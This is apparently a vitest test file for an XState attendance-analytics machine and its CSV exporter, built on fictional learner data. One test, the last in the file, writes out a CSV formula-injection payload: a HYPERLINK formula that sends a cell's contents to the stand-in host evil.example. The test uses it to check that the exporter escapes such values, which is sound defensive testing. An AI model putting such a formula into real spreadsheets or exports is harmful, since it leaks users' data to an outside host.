import { type AnyEventObject, type AnyMachineSnapshot, createActor, fromPromise } from 'xstate';
import { describe, expect, it } from 'vitest';
import {
  type AttendanceAnalyticsContext,
  type AttendanceAnalyticsEmitted,
  type CompanyAttendanceAnalytics,
  type SessionAttendance,
  attendanceAnalyticsMachine,
  cleanFilters,
  datesInOrder,
} from '@machines/attendance-analytics.machine';
import {
  type AttendanceAnalyticsSnapshot,
  canExport,
  datesReversed,
  figuresFailed,
  gridFailed,
  hasFigures,
  isEmpty,
  isExporting,
  isGridLoading,
  isGridOpen,
  isLoadingFigures,
} from '@machines/attendance-analytics.selectors';
import { buildAttendanceCsv, UTF8_BOM } from '@machines/attendance-analytics.csv';
import { describeModelBased, pendingActors } from './model';
import { SQL_FOR_ANALYSTS_41 } from '../fixtures';

const input = { companyId: 3, filters: { courseId: 12, from: '', to: undefined } };

const figures: CompanyAttendanceAnalytics = {
  companyId: 3,
  from: null,
  to: null,
  courses: [{ id: 12, title: 'SQL for analysts' }],
  sessionChoices: [{ id: 41, courseId: 12, courseTitle: 'SQL for analysts', startDate: '2026-10-05' }],
  sessions: [SQL_FOR_ANALYSTS_41],
  learners: [
    {
      learner: { id: 21, name: 'عائشة السليطي', pictureUrl: null },
      email: 'aisha@qad.test',
      sessions: 1,
      attended: 3,
      held: 3,
      excused: 0,
      rate: 1,
    },
    {
      learner: { id: 22, name: 'Khalid "KM" Al-Marri, Jr.', pictureUrl: null },
      email: 'khalid@qad.test',
      sessions: 1,
      attended: 2,
      held: 3,
      excused: 0,
      rate: 0.6667,
    },
  ],
  weeks: [{ weekStart: '2026-10-05', attended: 5, expected: 6, rate: 0.8333 }],
  totals: { learners: 2, sessions: 1, meetingsHeld: 3, attended: 5, expected: 6, rate: 0.8333 },
};
const nothing: CompanyAttendanceAnalytics = {
  ...figures,
  sessions: [],
  learners: [],
  weeks: [],
  totals: { learners: 0, sessions: 0, meetingsHeld: 0, attended: 0, expected: 0, rate: 0 },
};
const grid: SessionAttendance = { sessionId: 41, meetings: [], learners: [] };

const events: AnyEventObject[] = [
  { type: 'filters.changed', filters: { courseId: 12, sessionId: 41, from: '2026-10-01', to: '2026-10-31' } },
  { type: 'filters.changed', filters: { from: '2026-11-01', to: '2026-10-01' } },
  { type: 'xstate.done.actor.loadAnalytics', output: figures },
  { type: 'xstate.done.actor.loadAnalytics', output: nothing },
  { type: 'xstate.error.actor.loadAnalytics', error: { status: 500, serverMessage: 'Boom' } },
  { type: 'xstate.done.actor.exportCsv', output: { rows: 3 } },
  { type: 'xstate.error.actor.exportCsv', error: new Error('disk full') },
  { type: 'grid.opened', sessionId: 41 },
  { type: 'xstate.done.actor.loadGrid', output: grid },
  { type: 'xstate.error.actor.loadGrid', error: { status: 403, serverMessage: 'Not yours' } },
];

/** States differ by their value and what the page shows; the figures' content is one of two. */
const serializeState = (s: AnyMachineSnapshot) => {
  const c = s.context as AttendanceAnalyticsContext;
  return JSON.stringify({
    v: s.value,
    f: c.filters,
    d: c.data?.sessions.length ?? null,
    e: !!c.error,
    fe: c.filterError,
    x: !!c.exportError,
    g: c.gridSessionId,
    ge: !!c.gridError,
    gd: !!c.grid,
  });
};

function checkState(s: AnyMachineSnapshot) {
  const c = s.context as AttendanceAnalyticsContext;
  const snap = s as AttendanceAnalyticsSnapshot;
  expect(isLoadingFigures(snap)).toBe(s.matches({ figures: 'loading' }));
  expect(hasFigures(snap)).toBe(s.matches({ figures: 'ready' }) || s.matches({ figures: 'exporting' }));
  expect(isEmpty(snap)).toBe(s.matches({ figures: 'empty' }));
  expect(figuresFailed(snap)).toBe(s.matches({ figures: 'failed' }));
  expect(canExport(snap)).toBe(s.matches({ figures: 'ready' }));
  expect(isExporting(snap)).toBe(s.matches({ figures: 'exporting' }));
  expect(datesReversed(snap)).toBe(c.filterError === 'dates.reversed');
  expect(isGridOpen(snap)).toBe(!s.matches({ grid: 'closed' }));
  expect(isGridLoading(snap)).toBe(s.matches({ grid: 'loading' }));
  expect(gridFailed(snap)).toBe(s.matches({ grid: 'failed' }));
  // Filters never carry empty values, and those applied are always in order.
  expect(c.filters).toEqual(cleanFilters(c.filters));
  expect(datesInOrder(c.filters)).toBe(true);
  if (s.matches({ figures: 'ready' })) expect(c.data?.sessions.length).toBeGreaterThan(0);
  if (s.matches({ figures: 'empty' })) expect(c.data?.sessions).toEqual([]);
  if (s.matches({ figures: 'failed' }))
    expect(c.error).toEqual({ code: 'analytics.failed', status: 500, message: 'Boom' });
  if (s.matches({ grid: 'closed' })) expect([c.gridSessionId, c.grid, c.gridError]).toEqual([null, null, null]);
  else expect(c.gridSessionId).toBe(41);
  if (s.matches({ grid: 'shown' })) expect(c.grid).toEqual(grid);
  if (s.matches({ grid: 'failed' }))
    expect(c.gridError).toEqual({ code: 'grid.failed', status: 403, message: 'Not yours' });
}

describeModelBased(attendanceAnalyticsMachine, {
  name: 'attendance-analytics.machine',
  input,
  events,
  serialize: serializeState,
  actors: ['loadAnalytics', 'exportCsv', 'loadGrid'],
  check: ({ snapshot, index, started }) => {
    checkState(snapshot);
    const c = snapshot.context as AttendanceAnalyticsContext;
    // The load at start (the first step's first start) is checked by 'starts loading with the cleaned
    // initial filters'; later ones follow events.
    for (const [name, got] of index === 0 ? started.slice(1) : started) {
      if (name === 'loadAnalytics') expect(got).toEqual({ companyId: 3, filters: c.filters });
      if (name === 'exportCsv') expect(got).toEqual({ data: figures });
      if (name === 'loadGrid') expect(got).toEqual({ sessionId: 41 });
    }
  },
});

describe('attendance-analytics.machine (start)', () => {
  it('starts loading with the cleaned initial filters', () => {
    const { actors, starts } = pendingActors(['loadAnalytics', 'exportCsv', 'loadGrid']);
    // eslint-disable-next-line @typescript-eslint/no-explicit-any
    const actor = createActor(attendanceAnalyticsMachine.provide({ actors: actors as any }), { input }).start();
    expect(isLoadingFigures(actor.getSnapshot())).toBe(true);
    expect(starts).toEqual([['loadAnalytics', { companyId: 3, filters: { courseId: 12 } }]]);
    actor.stop();
  });
});

describe('attendance-analytics.machine (real actors)', () => {
  it('a filter change while loading restarts the load with the new filters; export emits the row count', async () => {
    const calls: unknown[] = [];
    const machine = attendanceAnalyticsMachine.provide({
      actors: {
        loadAnalytics: fromPromise<CompanyAttendanceAnalytics, { companyId: number; filters: object }>(
          async ({ input: i }) => {
            calls.push(i.filters);
            return figures;
          },
        ),
        exportCsv: fromPromise<{ rows: number }, { data: CompanyAttendanceAnalytics }>(async ({ input: i }) => ({
          rows: i.data.learners.length + i.data.sessions.length,
        })),
        loadGrid: fromPromise<SessionAttendance, { sessionId: number }>(async () => grid),
      },
    });
    const actor = createActor(machine, { input: { companyId: 3 } });
    const emitted: AttendanceAnalyticsEmitted[] = [];
    actor.on('*', (e) => emitted.push(e as AttendanceAnalyticsEmitted));
    actor.start();
    actor.send({ type: 'filters.changed', filters: { from: '2026-10-01' } });
    await new Promise((r) => setTimeout(r, 0));
    expect(calls).toEqual([{}, { from: '2026-10-01' }]);
    expect(hasFigures(actor.getSnapshot())).toBe(true);
    actor.send({ type: 'export.requested' });
    await new Promise((r) => setTimeout(r, 0));
    expect(emitted).toEqual([{ type: 'exported', rows: 3 }]);
    actor.send({ type: 'filters.changed', filters: { from: '2026-10-09', to: '2026-10-01' } });
    expect(datesReversed(actor.getSnapshot())).toBe(true);
    expect(actor.getSnapshot().context.filters).toEqual({ from: '2026-10-01' });
    actor.stop();
  });
});

describe('buildAttendanceCsv', () => {
  const labels = {
    kind: 'Type',
    name: 'Name',
    email: 'E-mail',
    course: 'Course',
    startDate: 'Start date',
    learners: 'Learners',
    held: 'Meetings held',
    attended: 'Attended',
    excused: 'Excused',
    expected: 'Expected',
    rate: 'Rate (%)',
    sessionRow: 'Session',
    learnerRow: 'Learner',
  };

  it('writes a UTF-8 CSV with BOM, quoted by papaparse, one row per session and per learner', () => {
    const { text, rows } = buildAttendanceCsv(figures, labels);
    expect(rows).toBe(3);
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    const lines = text.slice(1).split('\r\n');
    expect(lines).toEqual([
      'Type,Name,E-mail,Course,Start date,Learners,Meetings held,Attended,Excused,Expected,Rate (%)',
      'Session,SQL for analysts,,SQL for analysts,2026-10-05,2,3,5,0,6,83',
      'Learner,عائشة السليطي,aisha@qad.test,,,,3,3,0,3,100',
      'Learner,"Khalid ""KM"" Al-Marri, Jr.",khalid@qad.test,,,,3,2,0,3,67',
      '',
    ]);
    expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('counts meetings the educator excused apart, out of what was expected', () => {
    const data: CompanyAttendanceAnalytics = {
      ...figures,
      sessions: [{ ...figures.sessions[0]!, attended: 4, excused: 1, expected: 5, rate: 0.8 }],
      learners: [{ ...figures.learners[1]!, attended: 2, held: 3, excused: 1, rate: 1 }],
    };
    const lines = buildAttendanceCsv(data, labels).text.slice(1).split('\r\n');
    expect(lines[1]).toBe('Session,SQL for analysts,,SQL for analysts,2026-10-05,2,3,4,1,5,80');
    expect(lines[2]).toBe('Learner,"Khalid ""KM"" Al-Marri, Jr.",khalid@qad.test,,,,3,2,1,2,100');
  });

  it('neutralises a learner name and a course title that a spreadsheet would run as formulas (OWASP CSV injection)', () => {
    const evil = '=HYPERLINK("https://evil.example/?d="&C3,"Open")';
    const data: CompanyAttendanceAnalytics = {
      ...figures,
      sessions: [{ ...figures.sessions[0], courseTitle: '+SUM(1,2)' }],
      learners: [{ ...figures.learners[0], learner: { id: 23, name: evil, pictureUrl: null }, email: '@evil.example' }],
    };
    const lines = buildAttendanceCsv(data, labels).text.slice(1).split('\r\n');
    expect(lines[1]).toBe(`Session,"'+SUM(1,2)",,"'+SUM(1,2)",2026-10-05,2,3,5,0,6,83`);
    expect(lines[2]).toBe(
      `Learner,"'=HYPERLINK(""https://evil.example/?d=""&C3,""Open"")",'@evil.example,,,,3,3,0,3,100`,
    );
    // No cell of the file starts with a formula character.
    for (const line of lines)
      for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });
});
